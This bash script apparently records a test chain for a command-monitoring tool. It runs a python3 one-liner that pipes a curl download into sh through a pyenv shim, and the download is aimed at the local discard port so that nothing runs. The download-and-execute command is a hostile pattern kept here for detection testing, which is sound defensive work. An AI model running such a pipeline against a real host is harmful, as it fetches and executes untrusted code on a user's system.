#!/usr/bin/env bash
# Chain pyenv-shim-payload: ONE attack-shaped command run through a pyenv shim, for the "one
# command, one alert" check (tests/corpus/chains/, not a benign stream): `python3 -c` code
# that pipes a download into a shell. The shim (bash) re-execs `pyenv exec`, which re-execs
# the real interpreter, each with the same code; the interpreter then runs `sh -c` with the
# pipeline. Harmless: the download is from 127.0.0.1:9 (discard), which refuses, so the shell
# reads nothing. Needs pyenv shims in PYENV_ROOT (default ~/.pyenv).
# Record with: REC_OUT=tests/corpus/chains scripts/record-execs.sh pyenv-shim-payload
# Phases: setup | run | cleanup | start-dir | scrubs | describe (see scripts/record-execs.sh).
set -euo pipefail
dir=/tmp/rec-pyenv-payload
root="${PYENV_ROOT:-$HOME/.pyenv}"
case "${1:-}" in
describe)
    echo "run: with \$PYENV_ROOT/shims first in PATH, python3 -c \"import os;"
    echo "     os.system('curl -fsS --max-time 2 http://127.0.0.1:9/x.sh | sh')\" (the download fails)"
    ;;
start-dir) echo "$dir" ;;
scrubs) ;;
setup)
    [ -x "$root/shims/python3" ] || { echo "pyenv shims not found in $root/shims" >&2; exit 1; }
    rm -rf "$dir" && mkdir -p "$dir"
    ;;
run)
    cd "$dir"
    export PATH="$root/shims:$root/bin:$PATH"
    python3 -c "import os; os.system('curl -fsS --max-time 2 http://127.0.0.1:9/x.sh | sh')" || true
    ;;
cleanup) rm -rf "$dir" ;;
*) echo "usage: $0 setup|run|cleanup|start-dir|scrubs|describe" >&2; exit 2 ;;
esac
